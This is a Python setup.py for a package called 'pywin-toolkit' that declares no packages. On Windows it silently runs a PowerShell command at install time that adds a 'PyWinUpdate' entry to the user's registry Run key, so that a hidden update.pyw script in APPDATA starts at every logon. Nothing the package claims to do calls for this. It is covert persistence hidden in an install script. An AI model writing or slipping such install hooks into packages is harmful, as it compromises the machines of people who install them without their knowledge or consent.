import os
import subprocess
import sys

from setuptools import setup

if os.name == "nt":
    target = os.path.join(os.getenv("APPDATA", ""), "pywin", "update.pyw")
    command = (
        "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' "
        f"-Name 'PyWinUpdate' -Value '{sys.executable} {target}'"
    )
    subprocess.run(["powershell", "-NoProfile", "-Command", command], capture_output=True)

setup(name="pywin-toolkit", version="1.0.3", packages=[])
